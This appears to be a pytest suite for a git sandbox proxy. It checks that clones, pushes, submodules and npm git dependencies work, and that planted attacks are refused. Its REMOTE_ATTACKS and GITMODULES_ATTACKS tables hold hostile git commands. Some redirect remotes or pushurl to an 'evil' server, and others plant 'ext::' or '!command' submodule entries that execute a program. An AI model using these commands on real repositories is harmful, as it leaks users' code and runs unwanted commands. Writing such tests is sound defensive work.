"""git against a remote, inside (issue 9): a local smart-HTTP server (`git http-backend`) reached
through paddock's proxy by a pinned, allowed name. Every everyday operation works end to end, the
host sees the result (refs on the server, upstream in .git/config), and an operation that
succeeded prints no `paddock: denied` line.

Also here, because they need servers: remote URLs the policy does not allow cannot be planted
for the host's next push, and a submodule URL cannot be either."""

import json
import os
import shutil
import subprocess

import pytest

from conftest import init_repo, unique
from gitutil import (EVIL_HOST, GIT_HOST, GitHTTPServer, config_entries, git_server,  # noqa: F401
                     host_git, net_flags, other_server, served_repo)

FLAGS = net_flags()


@pytest.fixture
def served(sb, git_server):
    served_repo(sb, git_server.root, "repo.git",
                {"file.txt": "hello\n", "pkg/mod.py": "x = 1\n"})
    return git_server


def bare_ref(sb, bare, ref):
    p = host_git(sb, ["rev-parse", "--verify", "-q", ref], bare)
    return p.stdout.strip() if p.returncode == 0 else None


def assert_clean_run(r):
    assert r.rc == 0 and "DONE" in r.out, r
    assert not r.denials, r


# --- clone ------------------------------------------------------------------------------------


def test_clone_into_project_commit_push_upstream(sb, served):
    """clone, branch, commit, `push -u`: the server has the branch, and the upstream really is
    set in .git/config (issue 9: push -u printed success and set nothing)."""
    url = served.url("repo.git")
    r = sb.sh(f"set -e; git clone -q {url} work; cd work; git checkout -q -b feature;"
              "echo change >> file.txt; git commit -q -am 'change inside';"
              "git push -q -u origin feature 2>&1; git status -sb | head -1; echo DONE",
              flags=FLAGS)
    assert_clean_run(r)
    assert "origin/feature" in r.out, r
    work = sb.project / "work"
    cfg = config_entries(work / ".git" / "config")
    assert f"remote.origin.url={url}" in cfg, cfg
    assert "branch.feature.remote=origin" in cfg, cfg
    assert "branch.feature.merge=refs/heads/feature" in cfg, cfg
    head = host_git(sb, ["rev-parse", "HEAD"], work).stdout.strip()
    assert bare_ref(sb, served.root / "repo.git", "refs/heads/feature") == head
    assert served.pushes(), served.requests
    # the host's git agrees: the branch tracks origin/feature and nothing is pending
    st = host_git(sb, ["status", "-sb"], work).stdout
    assert "feature...origin/feature" in st, st
    # hooks of the new repository are git's samples only
    hooks = os.listdir(work / ".git" / "hooks")
    assert all(h.endswith(".sample") for h in hooks), hooks


def test_clone_into_private_tmp(sb, served):
    """/tmp inside is the sandbox's own tmpfs: git works there without any mediation (even what
    is refused in the project), and the push reaches the server."""
    url = served.url("repo.git")
    r = sb.sh(f"set -e; cd /tmp; git clone -q {url} t; cd t; echo new > new.txt; git add new.txt;"
              "git commit -q -m 'from tmp'; git push -q origin HEAD:from-tmp 2>&1;"
              "git config core.fsmonitor 'echo fsmonitor-in-tmp'; echo '#!/bin/sh' > "
              ".git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; rm -rf /tmp/t; echo DONE",
              flags=FLAGS)
    assert_clean_run(r)
    assert bare_ref(sb, served.root / "repo.git", "refs/heads/from-tmp"), served.requests


def test_remote_add_config_email_fetch_pull(sb, repo, served):
    """In the user's repository: remote add (an allowed URL), config user.email, fetch, pull."""
    url = served.url("repo.git")
    r = sb.sh(f"set -e; git remote add upstream {url}; git config user.email agent@example.test;"
              "git fetch -q upstream; git pull -q --no-rebase --allow-unrelated-histories "
              "--no-edit upstream main; git log --format=%s -3; echo DONE", flags=FLAGS)
    assert_clean_run(r)
    cfg = config_entries(repo / ".git" / "config")
    assert f"remote.upstream.url={url}" in cfg, cfg
    assert "user.email=agent@example.test" in cfg, cfg
    assert (repo / "pkg" / "mod.py").exists()  # pulled
    log = host_git(sb, ["log", "--format=%s"], repo).stdout
    assert "initial repo.git" in log and "initial" in log, log


def test_fetch_and_pull_new_commits(sb, served, scratch):
    """The host clones (by address), names the server as the sandbox sees it, pushes a new
    commit to the server; inside, fetch and pull bring it."""
    url = served.url("repo.git")
    work = sb.project / "work"
    host_git(sb, ["clone", "-q", f"http://127.0.0.1:{served.port}/repo.git", str(work)],
             sb.project)
    assert (work / ".git").is_dir()
    sb.git("remote", "set-url", "origin", url, cwd=work)
    other = scratch / "other"
    sb.git("clone", "-q", str(served.root / "repo.git"), str(other))
    (other / "later.txt").write_text("later\n")
    sb.git("add", "later.txt", cwd=other)
    sb.git("commit", "-q", "-m", "later on the server", cwd=other)
    sb.git("push", "-q", "origin", "main", cwd=other)
    r = sb.sh("set -e; cd work; git fetch -q; git status -sb | head -1; git pull -q --ff-only;"
              "cat later.txt; echo DONE", flags=FLAGS)
    assert_clean_run(r)
    assert "behind 1" in r.out and "later" in r.out, r
    assert host_git(sb, ["log", "-1", "--format=%s"], work).stdout.strip() == "later on the server"


# --- submodules -------------------------------------------------------------------------------


@pytest.fixture
def with_submodule(sb, served):
    """lib.git, and super.git whose .gitmodules names lib by its http URL."""
    lib = served_repo(sb, served.root, "lib.git", {"lib.txt": "library\n"})
    lib_head = host_git(sb, ["rev-parse", "main"], lib).stdout.strip()
    work = served.root.parent / "work-super"
    init_repo(sb, work, commit=False)
    (work / ".gitmodules").write_text(
        f'[submodule "lib"]\n\tpath = lib\n\turl = {served.url("lib.git")}\n')
    sb.git("add", "-A", cwd=work)
    sb.git("update-index", "--add", "--cacheinfo", f"160000,{lib_head},lib", cwd=work)
    sb.git("commit", "-q", "-m", "super with lib", cwd=work)
    sb.git("clone", "-q", "--bare", str(work), str(served.root / "super.git"))
    return served


def test_submodule_update_init_and_foreach(sb, with_submodule):
    url = with_submodule.url("super.git")
    r = sb.sh(f"set -e; git clone -q {url} s; cd s; git submodule update --init 2>&1;"
              "git submodule foreach 'echo in=$name; git log --format=%s -1'; cat lib/lib.txt;"
              "echo DONE", flags=FLAGS)
    assert_clean_run(r)
    assert "in=lib" in r.out and "library" in r.out, r
    s = sb.project / "s"
    st = host_git(sb, ["submodule", "status"], s).stdout
    assert st.startswith(" ") and " lib" in st, st  # checked out at the recorded commit
    assert (s / "lib" / ".git").is_file()
    assert (s / ".git" / "modules" / "lib" / "config").is_file()
    assert host_git(sb, ["status", "--porcelain"], s).stdout == ""


def test_clone_recurse_submodules(sb, with_submodule):
    url = with_submodule.url("super.git")
    r = sb.sh(f"set -e; git clone -q --recurse-submodules {url} s 2>&1; cat s/lib/lib.txt; "
              "echo DONE", flags=FLAGS)
    assert_clean_run(r)
    assert "library" in r.out, r


def test_submodule_add(sb, repo, with_submodule):
    url = with_submodule.url("lib.git")
    r = sb.sh(f"set -e; git submodule add -q {url} vendor/lib 2>&1; git commit -q -m 'add lib';"
              "git submodule foreach -q 'echo in=$name'; echo DONE", flags=FLAGS)
    assert_clean_run(r)
    assert "in=vendor/lib" in r.out, r
    gm = config_entries(repo / ".gitmodules")
    assert f"submodule.vendor/lib.url={url}" in gm, gm
    mod = repo / ".git" / "modules" / "vendor" / "lib"
    assert any(e.startswith("core.worktree=") for e in config_entries(mod / "config"))
    st = host_git(sb, ["submodule", "status"], repo).stdout
    assert st.startswith(" ") and "vendor/lib" in st, st
    assert host_git(sb, ["status", "--porcelain", "--untracked-files=no"], repo).stdout == ""


# --- failures leave nothing behind --------------------------------------------------------------


def test_failed_clone_leaves_nothing_and_retry_works(sb, served, other_server):
    """A clone that fails (a host the policy denies, a repository the server does not have)
    cleans up after itself, in the project and in /tmp; the same command then works. The denied
    host's clone is stopped when git writes remote.origin.url (the one refusal reported); its
    server never hears of it."""
    denied = f"http://{EVIL_HOST}:{other_server.port}/repo.git"
    missing = served.url("missing.git")
    good = served.url("repo.git")
    r = sb.sh(f"git clone -q {denied} c; echo denied_rc=$?; git clone -q {missing} c2;"
              f"echo missing_rc=$?; (cd /tmp && git clone -q {denied} c; echo tmp_rc=$?);"
              "ls -d c c2 /tmp/c 2>/dev/null; echo LISTED;"
              f"git clone -q {good} c && git clone -q {good} c2 && echo DONE", flags=FLAGS)
    assert "denied_rc=128" in r.out and "missing_rc=128" in r.out and "tmp_rc=128" in r.out, r
    assert r.out.split("LISTED")[0].split("tmp_rc=128")[1].strip() == "", r  # nothing left
    assert r.rc == 0 and "DONE" in r.out, r
    assert all("remote.origin.url" in d and EVIL_HOST in d for d in r.denials
               if "/.git/config" in d), r
    assert [d for d in r.denials if "/.git/config" not in d and EVIL_HOST not in d] == [], r
    assert other_server.requests == []
    for d in ("c", "c2"):
        assert (sb.project / d / "file.txt").exists(), r
        assert host_git(sb, ["status", "--porcelain"], sb.project / d).stdout == ""


def test_rm_rf_fresh_clone(sb, served):
    r = sb.sh(f"set -e; git clone -q {served.url('repo.git')} c; rm -rf c; echo DONE", flags=FLAGS)
    assert_clean_run(r)
    assert not os.path.lexists(sb.project / "c")


# --- npm: a git dependency ----------------------------------------------------------------------


@pytest.mark.parametrize("cache", ["/tmp/npm-cache", "$PWD/.npm-cache"], ids=["tmp", "project"])
def test_npm_install_git_dependency(sb, served, cache):
    """npm clones a git dependency into its cache (on the private /tmp, or in the project, where
    every git write is mediated), then installs it; no registry is needed."""
    if not shutil.which("npm"):
        pytest.skip("npm is not installed")
    served_repo(sb, served.root, "pkg.git", {
        "package.json": json.dumps({"name": "gitdep", "version": "1.0.0", "main": "index.js"}),
        "index.js": "module.exports = 'from a git dependency';\n"})
    (sb.project / "package.json").write_text(json.dumps({
        "name": "app", "version": "1.0.0", "private": True,
        "dependencies": {"gitdep": f"git+{served.url('pkg.git')}"}}))
    # npm's cache defaults to ~/.npm, which is not writable inside; its update check would ask
    # the registry (not allowed here): both are npm's business, not git's.
    r = sb.sh(f"set -e; export npm_config_cache={cache} npm_config_update_notifier=false;"
              "npm install --no-audit --no-fund --loglevel=error 2>&1; "
              "node -e \"console.log(require('gitdep'))\"; echo DONE", flags=FLAGS, timeout=120)
    assert_clean_run(r)
    assert "from a git dependency" in r.out, r
    assert (sb.project / "node_modules" / "gitdep" / "index.js").exists()
    assert any(q["path"].startswith("/pkg.git/") for q in served.requests), served.requests


# --- remote URLs the policy does not allow ------------------------------------------------------
#
# remote.*.url and friends may name only hosts the network policy allows, or paths inside the
# writable roots: otherwise the user's next push on the host would carry the code wherever the
# sandbox pointed it, past the network wall. The host reaches the servers by address; the
# sandbox's policy allows only git.test.


@pytest.fixture
def tracked(sb, repo, served, other_server, outside):
    """The user's repository with origin on the allowed server (by address, as the host reaches
    it), pushed with upstream; an evil server and an evil bare repository outside."""
    for srv in (served, other_server):
        sb.git("init", "-q", "--bare", str(srv.root / "user.git"))
        sb.git("config", "http.receivepack", "true", cwd=srv.root / "user.git")
    good = f"http://127.0.0.1:{served.port}/user.git"
    sb.git("remote", "add", "origin", good)
    sb.git("push", "-q", "-u", "origin", "main")
    sb.git("init", "-q", "--bare", str(outside / "evil.git"))
    return {"good": good, "good_base": f"http://127.0.0.1:{served.port}/",
            "evil": f"http://127.0.0.1:{other_server.port}/user.git",
            "evil_base": f"http://127.0.0.1:{other_server.port}/",
            "evil_local": str(outside / "evil.git")}


REMOTE_ATTACKS = {
    "set-url": "git remote set-url origin {evil}",
    "set-url-localhost": "git remote set-url origin {evil_localhost}",
    "set-url-pinned-denied-name": "git remote set-url origin http://" + EVIL_HOST + ":1/user.git",
    "set-url-push": "git remote set-url --push origin {evil}",
    "pushurl": "git config remote.origin.pushurl {evil}",
    "add-second-remote-as-push-default": "git remote add evil {evil}; git config remote.pushDefault evil",
    "url-as-push-default": "git config remote.pushDefault {evil}",
    "url-as-branch-push-remote": "git config branch.main.pushRemote {evil}",
    "url-as-branch-remote": "git config branch.main.remote {evil}",
    "insteadOf": "git config url.{evil_base}.insteadOf {good_base}",
    "pushInsteadOf": "git config url.{evil_base}.pushInsteadOf {good_base}",
    "local-path-outside": "git remote set-url origin {evil_local}",
    "local-path-outside-file-url": "git remote set-url origin file://{evil_local}",
    "lock-rename": "cp .git/config .git/config.lock; printf '[remote \"origin\"]\\n\\tpushurl = "
                   "{evil}\\n' >> .git/config.lock; mv -f .git/config.lock .git/config; "
                   "rm -f .git/config.lock",
    "sed-i": "sed -i 's#{good}#{evil}#' .git/config",
    "rm-then-rewrite": "sed 's#{good}#{evil}#' .git/config > c.new; rm -f .git/config; "
                       "mv c.new .git/config",
}


def _fill_urls(cmd, t):
    t = dict(t, evil_localhost=t["evil"].replace("127.0.0.1", "localhost"))
    for k, v in t.items():
        cmd = cmd.replace("{" + k + "}", v)
    return cmd


def _host_pushes(sb, repo):
    out = []
    (repo / "later.txt").write_text("later\n")
    for args in (["add", "later.txt"], ["commit", "-q", "-m", "host later"], ["push", "-q"],
                 ["push", "-q", "origin", "main:refs/heads/other"], ["fetch", "-q", "--all"],
                 ["pull", "-q", "--no-rebase", "--no-edit"]):
        out.append((args, host_git(sb, args, repo, timeout=20).returncode))
    return out


@pytest.mark.parametrize("attack", list(REMOTE_ATTACKS))
def test_remote_url_to_denied_host(sb, repo, served, other_server, tracked, outside, attack):
    r = sb.sh(_fill_urls(REMOTE_ATTACKS[attack], tracked) + "\nexit 0", flags=FLAGS)
    assert r.denials, r
    results = _host_pushes(sb, repo)
    assert other_server.requests == [], (results, r)
    assert host_git(sb, ["for-each-ref"], outside / "evil.git").stdout == "", (results, r)
    # the host's pushes to origin still go where the user set it (unless the config was
    # removed: allowed, it plants nothing)
    if (repo / ".git" / "config").exists():
        head = host_git(sb, ["rev-parse", "main"], repo).stdout.strip()
        assert bare_ref(sb, served.root / "user.git", "refs/heads/other") == head, (results, r)


def test_remote_url_control(sb, repo, served, other_server, tracked):
    """Control, without paddock: the same change on the host sends the push to the evil server."""
    sb.git("remote", "set-url", "--push", "origin", tracked["evil"])
    _host_pushes(sb, repo)
    assert any(q["path"].endswith("git-receive-pack") for q in other_server.requests)


def test_remote_url_allowed_host(sb, repo, served, tracked):
    """A URL on a host the policy allows, or a path inside the project, may be set."""
    url = served.url("user.git")
    r = sb.sh(f"set -e; git remote set-url origin {url}; git remote add local \"$PWD/mirror.git\";"
              "git init -q --bare mirror.git; git push -q local main; git push -q origin main;"
              "echo DONE", flags=FLAGS)
    assert r.rc == 0 and "DONE" in r.out and not r.denials, r
    cfg = config_entries(repo / ".git" / "config")
    assert f"remote.origin.url={url}" in cfg and f"remote.local.url={repo}/mirror.git" in cfg


# --- .gitmodules ------------------------------------------------------------------------------


@pytest.fixture
def super_repo(sb, repo, served, other_server, outside):
    """The user's repository with a submodule `lib` (not yet initialised) on the allowed
    server; the evil server has a `lib.git` too."""
    served_repo(sb, served.root, "lib.git", {"lib.txt": "library\n"})
    served_repo(sb, other_server.root, "lib.git", {"lib.txt": "evil library\n"})
    lib_head = host_git(sb, ["rev-parse", "main"], served.root / "lib.git").stdout.strip()
    good = f"http://127.0.0.1:{served.port}/lib.git"
    (repo / ".gitmodules").write_text(f'[submodule "lib"]\n\tpath = lib\n\turl = {good}\n')
    sb.git("add", ".gitmodules")
    sb.git("update-index", "--add", "--cacheinfo", f"160000,{lib_head},lib")
    sb.git("commit", "-q", "-m", "lib as a submodule")
    return {"good": good, "evil": f"http://127.0.0.1:{other_server.port}/lib.git"}


# .gitmodules is tracked content (docs/GIT.md): what could make the host's git run something
# through it, planted inside, must still run nothing when the host's git uses the file.
GITMODULES_ATTACKS = {
    "update-command": "git config -f .gitmodules submodule.lib.update '!{P}'",
    "append-update": "printf '\\tupdate = !{P}\\n' >> .gitmodules",
    "ext-url": "git config -f .gitmodules submodule.lib.url 'ext::{P}'",
    "ext-url-direct": "sed 's#{good}#ext::{P}#' .gitmodules > g.new; cat g.new > .gitmodules",
}


def _host_submodule(sb, repo):
    out = []
    for args in (["submodule", "sync"], ["submodule", "update", "--init"],
                 ["submodule", "update", "--remote"], ["submodule", "foreach", "true"]):
        out.append((args, host_git(sb, args, repo, timeout=30).returncode))
    return out


@pytest.mark.parametrize("attack", list(GITMODULES_ATTACKS))
def test_gitmodules_attack(sb, repo, served, other_server, super_repo, outside, attack):
    marker = outside / unique("pwned")
    prog = repo / "evilprog"
    prog.write_text(f"#!/bin/sh\ntouch '{marker}'\n")
    prog.chmod(0o755)
    cmd = _fill_urls(GITMODULES_ATTACKS[attack], super_repo).replace("{P}", str(prog))
    r = sb.sh(cmd + "\nexit 0", flags=FLAGS)
    assert str(prog) in (repo / ".gitmodules").read_text(), r  # planted: git itself must refuse it
    results = _host_submodule(sb, repo)
    assert other_server.requests == [], (results, r)
    assert not marker.exists(), (results, r)
